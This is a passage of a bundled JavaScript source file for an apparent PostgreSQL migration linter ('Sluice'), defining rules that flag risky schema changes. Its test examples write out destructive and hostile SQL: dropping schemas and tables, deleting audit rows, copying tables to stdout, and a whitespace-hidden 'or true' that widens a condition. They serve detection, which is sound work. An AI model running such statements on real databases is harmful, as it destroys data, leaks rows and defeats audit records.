import { a as namesOf, c as optionNamed, l as someNode, o as nodeAs, s as nodesAs, t as childrenOf, u as tokensOf } from "./nodes-Bqj3IKIP.js";
/** Table 13.2 of the PostgreSQL manual, weakest first. */
const lockModes = [
	"ACCESS SHARE",
	"ROW SHARE",
	"ROW EXCLUSIVE",
	"SHARE UPDATE EXCLUSIVE",
	"SHARE",
	"SHARE ROW EXCLUSIVE",
	"EXCLUSIVE",
	"ACCESS EXCLUSIVE"
];
/** `table public.users`, `column users.email`: the object in words, unquoted; render it before it is shown. */
function objectName(object) {
	const path = [
		object.schema,
		object.name,
		object.part
	].filter((part) => part !== void 0);
	return `${object.kind.replaceAll("-", " ")} ${path.join(".")}`;
}
/** A rule; its id is its file name, kebab-case, and is never used again for another meaning. */
function defineRule(definition) {
	const { id } = definition;
	if (!isRuleId(id)) throw new TypeError(`A rule id is in kebab-case: ${id}`);
	return {
		...definition,
		id
	};
}
function isRuleId(text) {
	return /^[a-z]+(?:-[a-z]+)*$/.test(text);
}
/** The effects of one kind. */
function ofKind(effects, kind) {
	return effects.filter((effect) => effect.kind === kind);
}
/** Names the statement of an effect among all statements of the change. */
function statementOf({ unitId, statement }) {
	return `${statement} ${unitId}`;
}
const alterColumnType = defineRule({
	id: "alter-column-type",
	title: "The type of a column changes",
	why: "The table is usually rewritten while nobody can read it, and a narrower type or USING can lose values.",
	instead: "Add a column of the new type, fill it in batches, switch the clients, then drop the old one.",
	invalid: [{
		sql: "alter table users alter column id type bigint",
		level: "high",
		message: "Changes the type of column users.id."
	}],
	valid: ["create table scratch (id int); alter table scratch alter column id type bigint"],
	check: ({ effects }) => ofKind(effects, "alters").filter(({ change, object }) => change === "column-type" && !object.createdHere).map((effect) => ({
		effect,
		level: "high",
		message: `Changes the type of ${objectName(effect.object)}.`,
		destructive: true
	}))
});
const auditTampering = defineRule({
	id: "audit-tampering",
	title: "Sluice’s own ledger is touched",
	why: "The record of what was applied must not be changed by what is applied.",
	instead: "Leave the schema sluice alone.",
	invalid: [
		{
			sql: "delete from sluice.audit where id = 1",
			level: "critical",
			message: "Touches table sluice.audit, which keeps the record of applied changes."
		},
		{
			sql: "drop schema sluice cascade",
			level: "critical",
			message: "Touches schema sluice, which keeps the record of applied changes."
		},
		{
			sql: "create trigger quiet before insert on sluice.audit for each row execute function f()",
			level: "critical",
			message: "Touches trigger sluice.audit.quiet, which keeps the record of applied changes."
		}
	],
	valid: ["create table sluices (id int)"],
	check: ({ effects }) => effects.flatMap((effect) => {
		const object = touchedObject(effect);
		if (object === void 0 || !isLedger(object)) return [];
		return [{
			effect,
			level: "critical",
			message: `Touches ${objectName(object)}, which keeps the record of applied changes.`,
			destructive: true,
			denies: true
		}];
	})
});
/** What others see of a lock is reported by what takes it. */
function touchedObject(effect) {
	if (effect.kind === "locks" || effect.kind === "scans" || effect.kind === "rewrites") return void 0;
	return "object" in effect ? effect.object : void 0;
}
function isLedger({ kind, schema, name }) {
	return schema === "sluice" || kind === "schema" && name === "sluice";
}
const blockingLock = defineRule({
	id: "blocking-lock",
	title: "A table is locked for its own sake",
	why: "Whoever reads or writes it waits until the whole transaction ends.",
	instead: "Leave the locking to the statements that need it, or refresh CONCURRENTLY.",
	invalid: [{
		sql: "lock table users",
		level: "medium",
		message: "Holds ACCESS EXCLUSIVE on table users until the end."
	}, {
		sql: "refresh materialized view totals",
		level: "medium",
		message: "Holds ACCESS EXCLUSIVE on materialized view totals until the end."
	}],
	valid: [
		"lock table users in row exclusive mode",
		"alter table users add column note text",
		"create table drafts (id bigint); lock table drafts"
	],
	check: ({ effects }) => {
		const otherwise = new Set(effects.filter(isOtherwise).map(statementOf));
		return ofKind(effects, "locks").filter(({ mode }) => lockModes.indexOf(mode) >= lockModes.indexOf("SHARE")).filter((lock) => lock.source === "static" && !lock.object.createdHere).filter((lock) => !otherwise.has(statementOf(lock))).map((effect) => ({
			effect,
			level: "medium",
			message: `Holds ${effect.mode} on ${objectName(effect.object)} until the end.`
		}));
	}
});
/** The same statement does something else, which has its own rules. */
function isOtherwise(effect) {
	return effect.kind !== "locks" && effect.source === "static";
}
/** The declarations of one kind in the statements of all scripts; those inside of bodies are left out. */
function declarationsOf(scripts, kind) {
	return scripts.flatMap((script) => declaredIn(script).filter((one) => isOfKind(one, kind)));
}
function isOfKind(declared, kind) {
	return declared.kind === kind;
}
/** Many rules ask about the same script. */
const known = /* @__PURE__ */ new WeakMap();
function declaredIn(script) {
	const found = known.get(script) ?? readDeclarations(script);
	known.set(script, found);
	return found;
}
function readDeclarations({ unitId, statements }) {
	return statements.flatMap((statement, index) => statement.kind === "unparsed" ? [] : declare(statement).map((declaration) => ({
		...declaration,
		unitId,
		statement: index,
		source: "static"
	})));
}
function declare({ node }) {
	const created = nodeAs(node, "CreateStmt");
	if (created !== void 0) return newTable(created);
	const altered = nodeAs(node, "AlterTableStmt");
	if (altered !== void 0) {
		const table = tableName(altered.relation);
		return nodesAs(altered.cmds, "AlterTableCmd").flatMap((command) => alteration(command, table));
	}
	const value = nodeAs(node, "AlterEnumStmt");
	if (value?.newVal !== void 0 && value.oldVal === void 0) return [{
		kind: "enum-value",
		type: namesOf(value.typeName).join("."),
		value: value.newVal
	}];
	const comment = nodeAs(node, "CommentStmt");
	if (comment?.objtype !== "OBJECT_TABLE") return [];
	return [{
		kind: "table-comment",
		table: namesOf(nodeAs(comment.object, "List")?.items).join(".")
	}];
}
function newTable(created) {
	const table = tableName(created.relation);
	const columns = nodesAs(created.tableElts, "ColumnDef");
	const constraints = nodesAs(created.tableElts, "Constraint");
	const keys = constraints.filter(({ contype }) => contype === "CONSTR_PRIMARY").flatMap(({ keys }) => namesOf(keys));
	return [
		{
			kind: "table",
			table,
			hasPrimaryKey: keys.length > 0 || columns.some((column) => hasConstraint(column, "CONSTR_PRIMARY")) || constraints.some(({ contype }) => contype === "CONSTR_PRIMARY"),
			derived: (created.inhRelations ?? []).length > 0 || created.ofTypename !== void 0 || nodesAs(created.tableElts, "TableLikeClause").length > 0,
			temporary: created.relation?.relpersistence === "t"
		},
		...columns.flatMap((column) => newColumn(column, {
			table,
			added: false,
			keys
		})),
		...constraints.flatMap((constraint) => newConstraint(constraint, table, false))
	];
}
function alteration(command, table) {
	const column = command.name ?? "";
	switch (command.subtype) {
		case "AT_AddColumn": {
			const definition = nodeAs(command.def, "ColumnDef");
			return definition === void 0 ? [] : newColumn(definition, {
				table,
				added: true,
				keys: []
			});
		}
		case "AT_AddConstraint": {
			const constraint = nodeAs(command.def, "Constraint");
			return constraint === void 0 ? [] : newConstraint(constraint, table, true);
		}
		case "AT_ColumnDefault": return command.def === void 0 ? [{
			kind: "default-dropped",
			table,
			column
		}] : [];
		default: return [];
	}
}
const serials = /* @__PURE__ */ new Set([
	"serial",
	"serial2",
	"serial4",
	"serial8",
	"smallserial",
	"bigserial"
]);
function newColumn(definition, where) {
	const { table, added, keys } = where;
	const column = definition.colname ?? "";
	const type = namesOf(definition.typeName?.names).at(-1) ?? "";
	const isKey = keys.includes(column) || hasConstraint(definition, "CONSTR_PRIMARY");
	const constraints = nodesAs(definition.constraints, "Constraint");
	return [{
		kind: "column",
		table,
		column,
		type,
		hasLength: (definition.typeName?.typmods ?? []).length > 0,
		added,
		isKey,
		notNull: isKey || hasConstraint(definition, "CONSTR_NOTNULL"),
		filled: serials.has(type) || constraints.some(fills)
	}, ...constraints.flatMap((constraint) => newConstraint(constraint, table, added))];
}
function fills({ contype, raw_expr }) {
	if (contype === "CONSTR_DEFAULT") return nodeAs(raw_expr, "A_Const")?.isnull !== true;
	return contype === "CONSTR_IDENTITY" || contype === "CONSTR_GENERATED";
}
function hasConstraint(column, wanted) {
	return nodesAs(column.constraints, "Constraint").some(({ contype }) => contype === wanted);
}
/** pg_constraint.confdeltype, as the grammar writes it. */
const deletions = {
	c: "cascade",
	n: "set null",
	d: "set default"
};
function newConstraint(constraint, table, added) {
	if (constraint.contype === "CONSTR_FOREIGN") {
		const action = constraint.fk_del_action;
		const onDelete = action === "c" || action === "n" || action === "d" ? deletions[action] : "keeps";
		return [{
			kind: "foreign-key",
			table,
			references: tableName(constraint.pktable),
			onDelete,
			added
		}];
	}
	const column = constraint.contype === "CONSTR_CHECK" ? provenColumn(constraint) : void 0;
	if (column === void 0 || constraint.conname === void 0) return [];
	return [{
		kind: "not-null-check",
		table,
		constraint: constraint.conname,
		column
	}];
}
function provenColumn({ raw_expr }) {
	const test = nodeAs(raw_expr, "NullTest");
	if (test?.nulltesttype !== "IS_NOT_NULL") return void 0;
	const names = namesOf(nodeAs(test.arg, "ColumnRef")?.fields);
	return names.length === 1 ? names[0] : void 0;
}
function tableName(relation) {
	return [relation?.schemaname, relation?.relname].filter((part) => part !== void 0).join(".");
}
const blockingScan = defineRule({
	id: "blocking-scan",
	title: "A table is read or rewritten as a whole while it is locked",
	why: "Writers, and often readers too, wait until every row has been looked at.",
	instead: "Add the constraint NOT VALID and validate it in a later change; rewrite in batches.",
	invalid: [
		{
			sql: "alter table users add constraint positive check (age > 0)",
			level: "medium",
			message: "Reads all of table users under a lock that blocks writes."
		},
		{
			sql: "alter table users alter column email set not null",
			level: "medium",
			message: "Reads all of table users under a lock that blocks writes."
		},
		{
			sql: "alter table users add column token uuid default gen_random_uuid()",
			level: "high",
			message: "Rewrites table users while nobody can read it."
		},
		{
			sql: "vacuum full users",
			level: "high",
			message: "Rewrites table users while nobody can read it."
		}
	],
	valid: ["alter table users add constraint positive check (age > 0) not valid", "alter table users add column note text"],
	check: ({ effects, scripts }) => {
		const proven = provenStatements(effects, scripts);
		const scans = ofKind(effects, "scans").filter((effect) => isBlocking(effect, effects)).filter((effect) => !proven.has(statementOf(effect)));
		const rewrites = ofKind(effects, "rewrites").filter((effect) => !effect.object.createdHere && !changesType(effect, effects));
		return [...scans.map((effect) => ({
			effect,
			level: "medium",
			message: `Reads all of ${objectName(effect.object)} under a lock that blocks writes.`
		})), ...rewrites.map((effect) => ({
			effect,
			level: "high",
			message: `Rewrites ${objectName(effect.object)} while nobody can read it.`
		}))];
	}
});
function isBlocking(scan, effects) {
	if (scan.object.createdHere) return false;
	return ofKind(effects, "locks").some((effect) => isSameStatement(effect, scan) && effect.object.name === scan.object.name && lockModes.indexOf(effect.mode) >= lockModes.indexOf("SHARE"));
}
/** alter-column-type has said so already. */
function changesType(rewrite, effects) {
	return ofKind(effects, "alters").some((effect) => isSameStatement(effect, rewrite) && effect.change === "column-type");
}
function isSameStatement(a, b) {
	return a.unitId === b.unitId && a.statement === b.statement;
}
/**
* SET NOT NULL reads nothing where an earlier statement validated CHECK (column IS NOT NULL). Only a
* statement whose every part is such a SET NOT NULL counts.
*/
function provenStatements(effects, scripts) {
	const declared = declarationsOf(scripts, "not-null-check");
	if (declared.length === 0) return /* @__PURE__ */ new Set();
	const columns = new Map(declared.map((check) => [`${statementOf(check)} ${check.table} ${check.constraint}`, `${check.table} ${check.column}`]));
	const checked = /* @__PURE__ */ new Map();
	const proven = /* @__PURE__ */ new Set();
	const certain = /* @__PURE__ */ new Set();
	const open = /* @__PURE__ */ new Set();
	for (const effect of ofKind(effects, "alters")) {
		const part = partOf(effect);
		(effect.change === "set-not-null" && proven.has(part) ? certain : open).add(statementOf(effect));
		const column = columns.get(`${statementOf(effect)} ${part}`);
		if (effect.change === "add-constraint" && column !== void 0) checked.set(part, column);
		const validated = effect.change === "validate-constraint" ? checked.get(part) : void 0;
		if (validated !== void 0) proven.add(validated);
		if (!unsettling.has(effect.change)) continue;
		checked.clear();
		proven.clear();
	}
	return new Set([...certain].filter((statement) => !open.has(statement)));
}
/** After these a name may mean another table, or a proof may be gone. */
const unsettling = /* @__PURE__ */ new Set([
	"drop-constraint",
	"rename",
	"set-schema"
]);
function partOf(effect) {
	return `${tableOf$2(effect)} ${effect.object.part ?? ""}`;
}
function tableOf$2({ object }) {
	return [object.schema, object.name].filter((part) => part !== void 0).join(".");
}
const cascadingDelete = defineRule({
	id: "cascading-delete",
	title: "Deleting rows of one table will change another one",
	why: "From then on a DELETE that names one table removes or empties rows of another, without a word in the statement.",
	instead: "Let the delete fail (NO ACTION), and delete what depends on a row by name.",
	invalid: [{
		sql: "alter table orders add constraint orders_users foreign key (user_id) references users (id) on delete cascade not valid",
		level: "medium",
		message: "Deleting from users will cascade to orders."
	}, {
		sql: "alter table orders add column owner_id int references users (id) on delete set null",
		level: "medium",
		message: "Deleting from users will set null in orders."
	}],
	valid: ["alter table orders add constraint orders_users foreign key (user_id) references users (id) not valid", "create table notes (user_id int references users (id) on delete cascade)"],
	check: ({ effects, scripts }) => {
		const existing = new Set(ofKind(effects, "alters").filter(({ object }) => !object.createdHere).map(statementOf));
		return declarationsOf(scripts, "foreign-key").filter(({ added, onDelete }) => added && onDelete !== "keeps").filter((key) => existing.has(statementOf(key))).map((effect) => {
			const how = effect.onDelete === "cascade" ? "cascade to" : `${effect.onDelete} in`;
			return {
				effect,
				level: "medium",
				message: `Deleting from ${effect.references} will ${how} ${effect.table}.`
			};
		});
	}
});
const charType = defineRule({
	id: "char-type",
	default: "off",
	title: "A column is padded to a fixed length",
	why: "Blanks are stored with every shorter value, and comparisons ignore some of them.",
	instead: "Use text, with a CHECK on the length where one is needed.",
	invalid: [{
		sql: "create table notes (code char(3))",
		level: "low",
		message: "Column notes.code is padded to a fixed length."
	}, {
		sql: "alter table users add column code character(3)",
		level: "low",
		message: "Column users.code is padded to a fixed length."
	}],
	valid: ["create table notes (code text)"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type }) => type === "bpchar").map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} is padded to a fixed length.`
	}))
});
const dataExport = defineRule({
	id: "data-export",
	title: "Data leaves the database",
	why: "The rows go to whoever runs the change, unmasked.",
	instead: "Leave exports out of governed changes.",
	invalid: [{
		sql: "copy users to stdout",
		level: "high",
		message: "Copies table users out of the database."
	}, {
		sql: "copy (select 1) to stdout",
		level: "high",
		message: "Copies a query’s rows out of the database."
	}],
	valid: ["select count(*) from users"],
	check: ({ effects }) => ofKind(effects, "exports").map((effect) => {
		return {
			effect,
			level: "high",
			message: `Copies ${effect.object === void 0 ? "a query’s rows" : objectName(effect.object)} out of the database.`
		};
	})
});
const definerSearchPath = defineRule({
	id: "definer-search-path",
	title: "A function with its owner’s rights trusts its caller’s search path",
	why: "Whoever calls it decides which tables, functions and operators its names mean, and has them run with the owner’s rights.",
	instead: "Add SET search_path = pg_catalog, pg_temp and qualify the other names.",
	invalid: [{
		sql: "create function tally() returns int language sql security definer as $$ select 1 $$",
		level: "high",
		message: "Runs function tally with its owner’s rights and its caller’s search path."
	}],
	valid: ["create function tally() returns int language sql as $$ select 1 $$"],
	check: ({ effects }) => {
		const safe = new Set(ofKind(effects, "sets").filter(({ scope, setting }) => scope === "function" && setting === "search_path").map(statementOf));
		const created = new Set(ofKind(effects, "creates").map(statementOf));
		return ofKind(effects, "alters").filter(({ change }) => change === "security-definer").filter((effect) => created.has(statementOf(effect)) && !safe.has(statementOf(effect))).map((effect) => ({
			effect,
			level: "high",
			message: `Runs ${objectName(effect.object)} with its owner’s rights and its caller’s search path.`
		}));
	}
});
const deleteRows = defineRule({
	id: "delete-rows",
	title: "Rows are deleted",
	why: "Deleted rows come back from a backup only, and rows of other tables may follow through foreign keys.",
	instead: "Delete by key, keep a copy of the rows, and compare the count with the rehearsal.",
	invalid: [
		{
			sql: "delete from users where created_at < '2020-01-01'",
			level: "high",
			message: "Deletes rows of table users that a condition selects."
		},
		{
			sql: "delete from users where id = 7",
			level: "medium",
			message: "Deletes rows of table users by key."
		},
		{
			sql: "delete from users where random() < 0.5",
			level: "high",
			message: "Deletes rows of table users that are others each time it runs."
		}
	],
	valid: ["create table scratch (id int); delete from scratch where id > 3"],
	check: ({ effects }) => ofKind(effects, "writes").flatMap((effect) => {
		const { object, verb, reach, rows } = effect;
		if (verb !== "delete" || object.createdHere) return [];
		if (reach === "unbounded" || reach === "tautology") return [];
		const by = choice$1(reach);
		const message = rows === void 0 ? `Deletes rows of ${objectName(object)}${by}.` : `Deletes ${rows} ${rows === 1 ? "row" : "rows"} of ${objectName(object)}.`;
		return [{
			effect,
			level: reach === "keyed" ? "medium" : "high",
			message,
			destructive: true
		}];
	})
});
function choice$1(reach) {
	if (reach === "volatile") return " that are others each time it runs";
	return reach === "keyed" ? " by key" : " that a condition selects";
}
const dropColumn = defineRule({
	id: "drop-column",
	title: "A column is dropped",
	why: "Its values are lost in every row, and clients that still name the column fail at once.",
	instead: "Release a version that no longer reads or writes the column first, then drop it with its owner’s approval.",
	invalid: [{
		sql: "alter table public.users drop column email",
		level: "high",
		message: "Drops column public.users.email."
	}, {
		sql: "alter table users drop column if exists email cascade",
		level: "high",
		message: "Drops column users.email and everything that depends on it."
	}],
	valid: ["create table scratch (id int, note text); alter table scratch drop column note"],
	check: ({ effects }) => ofKind(effects, "drops").flatMap((effect) => {
		const { object, cascade } = effect;
		if (object.kind !== "column" || object.createdHere && !cascade) return [];
		const more = cascade ? " and everything that depends on it" : "";
		return [{
			effect,
			level: "high",
			message: `Drops ${objectName(object)}${more}.`,
			destructive: true
		}];
	})
});
/** Kinds whose loss weighs more or less than `high`. */
const levels = {
	schema: "critical",
	database: "critical",
	extension: "critical",
	"owned-objects": "critical",
	tablespace: "critical",
	index: "medium",
	statistics: "medium"
};
const dropObject = defineRule({
	id: "drop-object",
	title: "An object is dropped",
	why: "Whatever uses it fails at once, and what it held or protected is gone.",
	instead: "Make sure that nothing uses it any more, without CASCADE, and let its owner approve.",
	invalid: [
		{
			sql: "drop schema billing cascade",
			level: "critical",
			message: "Drops schema billing and everything that depends on it."
		},
		{
			sql: "drop view public.report",
			level: "high",
			message: "Drops view public.report."
		},
		{
			sql: "drop index users_email",
			level: "medium",
			message: "Drops index users_email."
		},
		{
			sql: "drop policy tenant on users",
			level: "high",
			message: "Drops policy users.tenant."
		}
	],
	valid: ["create view scratch as select 1; drop view scratch"],
	check: ({ effects }) => ofKind(effects, "drops").flatMap((effect) => {
		const { object, cascade } = effect;
		if ([
			"table",
			"foreign-table",
			"column"
		].includes(object.kind)) return [];
		if (object.createdHere && !cascade) return [];
		const more = cascade ? " and everything that depends on it" : "";
		const destructive = cascade || object.kind !== "index" && object.kind !== "statistics";
		return [{
			effect,
			level: levels[object.kind] ?? "high",
			message: `Drops ${objectName(object)}${more}.`,
			destructive
		}];
	})
});
const dropTable = defineRule({
	id: "drop-table",
	title: "A table is dropped",
	why: "Every row is gone when the change commits, and only a backup brings it back.",
	instead: "Stop using the table first, rename it and keep it for a while, then drop it with its owner’s approval.",
	invalid: [
		{
			sql: "drop table public.users",
			level: "critical",
			message: "Drops table public.users."
		},
		{
			sql: "drop table if exists orders cascade",
			level: "critical",
			message: "Drops table orders and everything that depends on it."
		},
		{
			sql: "create table if not exists users (id int); drop table users",
			level: "critical",
			message: "Drops table users."
		},
		{
			sql: "create temp table users (id int); drop table users; drop table users",
			level: "critical",
			message: "Drops table users."
		}
	],
	valid: ["create table scratch (id int); drop table scratch"],
	check: ({ effects }) => ofKind(effects, "drops").flatMap((effect) => {
		const { object, cascade } = effect;
		if (object.kind !== "table" && object.kind !== "foreign-table") return [];
		if (object.createdHere && !cascade) return [];
		const more = cascade ? " and everything that depends on it" : "";
		return [{
			effect,
			level: "critical",
			message: `Drops ${objectName(object)}${more}.`,
			destructive: true
		}];
	})
});
const droppedDefault = defineRule({
	id: "dropped-default",
	title: "A column loses its default",
	why: "Clients that relied on it insert NULL from then on, or fail.",
	instead: "Release a version that fills the column itself first.",
	invalid: [{
		sql: "alter table users alter column active drop default",
		level: "low",
		message: "Drops the default of column users.active."
	}],
	valid: ["alter table users alter column active set default true", "create table scratch (id int default 1); alter table scratch alter column id drop default"],
	check: ({ effects, scripts }) => {
		const dropped = new Set(declarationsOf(scripts, "default-dropped").map((column) => `${statementOf(column)} ${column.column}`));
		return ofKind(effects, "alters").filter(({ change, object }) => change === "column-default" && !object.createdHere).filter((effect) => dropped.has(`${statementOf(effect)} ${effect.object.part ?? ""}`)).map((effect) => ({
			effect,
			level: "low",
			message: `Drops the default of ${objectName(effect.object)}.`
		}));
	}
});
const enumValueInSameTransaction = defineRule({
	id: "enum-value-in-same-transaction",
	title: "A new value of an enumeration is used in the transaction that adds it",
	why: "PostgreSQL refuses it: the value can only be used once the transaction that added it has committed.",
	instead: "Add the value in a file of its own, and use it in a later one.",
	invalid: [{
		sql: "alter type priority add value 'urgent'; insert into tickets (priority) values ('urgent')",
		level: "medium",
		message: "Uses the value urgent of priority in the transaction that adds it."
	}],
	valid: ["alter type priority add value 'urgent'", "alter type priority add value 'urgent'; insert into tickets (priority) values ('normal')"],
	check: ({ scripts }) => scripts.flatMap(usesIn)
});
function usesIn(script) {
	const values = declarationsOf([script], "enum-value");
	if (values.length === 0) return [];
	const byStatement = new Map(values.map((value) => [value.statement, value]));
	const added = /* @__PURE__ */ new Map();
	return script.statements.flatMap(({ text }, statement) => {
		const used = literalsOf(text).flatMap((literal) => added.get(literal) ?? []);
		const value = byStatement.get(statement);
		if (value !== void 0) added.set(literalOf(value.value), value);
		return used.map(({ unitId, value, type }) => ({
			effect: {
				unitId,
				statement,
				source: "static"
			},
			level: "medium",
			message: `Uses the value ${value} of ${type} in the transaction that adds it.`
		}));
	});
}
function literalOf(value) {
	return `'${value.replaceAll("'", "''")}'`;
}
function literalsOf(text) {
	return [...tokensOf(text)].filter(({ kind }) => kind === "quoted").map(({ start, end }) => text.slice(start, end));
}
const filteredUpdate = defineRule({
	id: "filtered-update",
	title: "Rows are updated, nobody knows how many",
	why: "The condition names no key, so only the rehearsal tells how much it reaches.",
	instead: "Update by key, or in batches, and compare the count with the rehearsal.",
	invalid: [{
		sql: "update users set active = false where last_seen < '2020-01-01'",
		level: "medium",
		message: "Updates rows of table users that a condition selects."
	}, {
		sql: "update users set active = false where random() < 0.5",
		level: "high",
		message: "Updates rows of table users that are others each time it runs."
	}],
	valid: ["update users set active = false where id in (1, 2, 3)"],
	check: ({ effects }) => ofKind(effects, "writes").filter(({ object, verb, reach }) => verb === "update" && (reach === "filtered" || reach === "volatile") && !object.createdHere).map((effect) => ({
		effect,
		level: effect.reach === "volatile" ? "high" : "medium",
		message: `Updates rows of ${objectName(effect.object)} that ${choice(effect.reach)}.`
	}))
});
function choice(reach) {
	return reach === "volatile" ? "are others each time it runs" : "a condition selects";
}
const grantToPublic = defineRule({
	id: "grant-to-public",
	title: "Everybody gets a privilege",
	why: "PUBLIC is every role of the cluster, those of the future included.",
	instead: "Grant the privilege to the role that needs it.",
	invalid: [
		{
			sql: "grant select on public.users to public",
			level: "high",
			message: "Grants select on table public.users to PUBLIC."
		},
		{
			sql: "grant all on all tables in schema public to public",
			level: "high",
			message: "Grants all on several objects to PUBLIC."
		},
		{
			sql: "create table t (id int); grant select on t to public",
			level: "high",
			message: "Grants select on table t to PUBLIC."
		}
	],
	valid: ["create table scratch (id int); grant select on scratch to reporting"],
	check: ({ effects }) => ofKind(effects, "grants").filter(({ to }) => to.includes("public")).map((effect) => ({
		effect,
		level: "high",
		message: `Grants ${effect.privileges.join(", ")} on ${targetOf(effect)} to PUBLIC.`
	}))
});
function targetOf({ object }) {
	return object === void 0 ? "several objects" : objectName(object).trim();
}
/** Deeper than bodies are read. */
const deepest = 8;
/**
* The tokens of a text, and inside the dollar quotes of CREATE and DO those of the code in them; its
* quotes themselves are left out.
*/
function* codeTokensOf(text, depth = 0) {
	let command;
	for (const token of tokensOf(text)) {
		const { kind, start, end } = token;
		if (kind === "word") command ??= text.slice(start, end).toLowerCase();
		if (kind === "punctuation" && text[start] === ";") command = void 0;
		if (kind === "quoted" && text[start] === "$" && carriesCode(command, depth)) yield* inside(text, token, depth);
		else yield token;
	}
}
function carriesCode(command, depth) {
	return depth < deepest && (command === "create" || command === "do");
}
function* inside(text, { start, end }, depth) {
	const tag = text.indexOf("$", start + 1) + 1 - start;
	const base = start + tag;
	for (const token of codeTokensOf(text.slice(base, end - tag), depth + 1)) yield {
		...token,
		start: token.start + base,
		end: token.end + base
	};
}
/** Wider than any window shows beside what stands before it, and higher than a screen. */
const widest = 120;
const highest = 60;
/** Blanks that comments divide into shorter stretches are not passed over: the comments are seen. */
const mayHold$3 = /[ \t]{41}|\n(?:[ \t\f\v\r]*\n){60}/;
/** Where text goes on behind so many blanks or blank lines that a reader takes what is before for all. */
function gapsOf(text) {
	if (!mayHold$3.test(text)) return [];
	const gaps = [];
	let blanks = 0;
	let lines = 0;
	for (const token of codeTokensOf(text)) if (token.kind === "space") {
		const parts = text.slice(token.start, token.end).split("\n");
		blanks = (parts.length === 1 ? blanks : 0) + (parts.at(-1)?.length ?? 0);
		lines += parts.length - 1;
	} else {
		if (isHidden(token, {
			blanks,
			lines
		})) gaps.push({
			index: token.start,
			text: text.slice(token.start, token.end)
		});
		lines = 0;
		if (token.kind !== "comment") blanks = 0;
	}
	return gaps;
}
/** A comment is shown by editors like everything else, but does nothing. */
function isHidden({ kind }, gap) {
	return kind !== "comment" && (gap.blanks > widest || gap.lines > highest);
}
const encoder = new TextEncoder();
/** The marks of stretches in ascending order, in time linear in the text. */
function marksOf({ unitId, source, statements }, stretches) {
	const { path, firstLine, text } = source;
	const ends = statements.map(({ place, text }) => place.offset + encoder.encode(text).length);
	let line = firstLine;
	let column = 1;
	let offset = 0;
	let position = 0;
	let statement = 0;
	return stretches.map((stretch) => {
		for (const character of text.slice(position, stretch.index)) {
			offset += encoder.encode(character).length;
			line += character === "\n" ? 1 : 0;
			column = character === "\n" ? 1 : column + 1;
		}
		position = stretch.index;
		while (statement < ends.length - 1 && (ends[statement] ?? 0) <= offset) statement += 1;
		const place = {
			path,
			line,
			column,
			offset
		};
		return {
			...stretch,
			unitId,
			statement,
			source: "static",
			place
		};
	});
}
const hiddenStatement = defineRule({
	id: "hidden-statement",
	title: "Something stands where nobody looks",
	why: "What is far to the right or far below is not on the screen of those who review the change.",
	instead: "Write it where it is read, right after what stands before it.",
	invalid: [
		{
			sql: `select 1;${" ".repeat(200)}select 2`,
			level: "high",
			message: "Goes on behind a wide gap: select."
		},
		{
			sql: `select 1;${"\n".repeat(100)}select 2`,
			level: "high",
			message: "Goes on behind a wide gap: select."
		},
		{
			sql: `select id from users where id = 1${"	".repeat(150)}/* all */ or true`,
			level: "high",
			message: "Goes on behind a wide gap: or."
		}
	],
	valid: [
		`select 1;\n\n\nselect 2;${" ".repeat(200)}\nselect 3`,
		`select '${" ".repeat(200)}'`,
		`select 1${" ".repeat(200)}-- the end`
	],
	check: ({ scripts }) => scripts.flatMap((script) => marksOf(script, gapsOf(script.source.text)).map((effect) => ({
		effect,
		place: effect.place,
		level: "high",
		message: `Goes on behind a wide gap: ${effect.text.slice(0, 60)}.`
	})))
});
const indexWithoutConcurrently = defineRule({
	id: "index-without-concurrently",
	title: "An index is built while writes are blocked",
	why: "Nobody can write to the table until the whole index is built.",
	instead: "Use CREATE INDEX CONCURRENTLY alone in its own file; add a constraint USING INDEX afterwards.",
	invalid: [{
		sql: "create index users_email on users (email)",
		level: "medium",
		message: "Builds index users_email on table users while writes are blocked."
	}, {
		sql: "alter table users add constraint users_email unique (email)",
		level: "medium",
		message: "Builds index users_email on table users while writes are blocked."
	}],
	valid: ["create index concurrently users_email on users (email)", "create table scratch (id int); create index scratch_id on scratch (id)"],
	check: ({ effects }) => ofKind(effects, "builds-index").filter((effect) => !effect.concurrently && !effect.object.createdHere).map((effect) => {
		return {
			effect,
			level: "medium",
			message: `Builds ${effect.index === "" ? "an index" : `index ${effect.index}`} on ${objectName(effect.object)} while writes are blocked.`
		};
	})
});
const jsonType = defineRule({
	id: "json-type",
	default: "off",
	title: "A column has the type json",
	why: "It has no equality, so DISTINCT, GROUP BY and UNION over it fail, and it is parsed again by every reader.",
	instead: "Use jsonb.",
	invalid: [{
		sql: "alter table users add column settings json",
		level: "low",
		message: "Column users.settings has the type json."
	}],
	valid: ["alter table users add column settings jsonb"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type }) => type === "json").map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} has the type json.`
	}))
});
/** Every word and every quoted name of a text, those inside of code that it carries, too. */
function namesIn(text) {
	const names = [];
	let quoted;
	for (const token of codeTokensOf(text)) {
		const { kind, start, end } = token;
		if (kind === "word") {
			const written = text.slice(start, end);
			names.push({
				index: start,
				text: written,
				name: foldCase(written)
			});
		}
		if (kind !== "quoted" || text[end - 1] !== "\"") continue;
		if (quoted?.end === start) names.pop();
		quoted = quoted?.end === start ? {
			...token,
			start: quoted.start
		} : token;
		names.push(toName(text, quoted));
	}
	return names;
}
function toName(text, { start, end }) {
	const written = text.slice(start, end);
	return {
		index: start,
		text: written,
		name: written.slice(written.indexOf("\"") + 1, -1).replaceAll("\"\"", "\"")
	};
}
/** PostgreSQL folds ASCII letters only, in a database of UTF-8. */
function foldCase(word) {
	return word.replace(/[A-Z]+/g, (letters) => letters.toLowerCase());
}
/** Bytes of a name that PostgreSQL keeps. */
const longestName = 63;
/** The name as PostgreSQL keeps it: whole characters of at most 63 bytes. */
function keptName(name) {
	const bytes = new TextEncoder().encode(name);
	if (bytes.length <= longestName) return name;
	let end = longestName;
	while (((bytes[end] ?? 0) & 192) === 128) end -= 1;
	return new TextDecoder().decode(bytes.subarray(0, end));
}
const long = "archive_of_all_orders_that_were_cancelled_by_customers_in_the_year";
const longName = defineRule({
	id: "long-name",
	default: "off",
	title: "A name is longer than PostgreSQL keeps",
	why: "The database knows it by its first 63 bytes, and tools that look for the whole name do not find it.",
	instead: "Use a name of at most 63 bytes.",
	invalid: [{
		sql: `create table ${long} (id bigint)`,
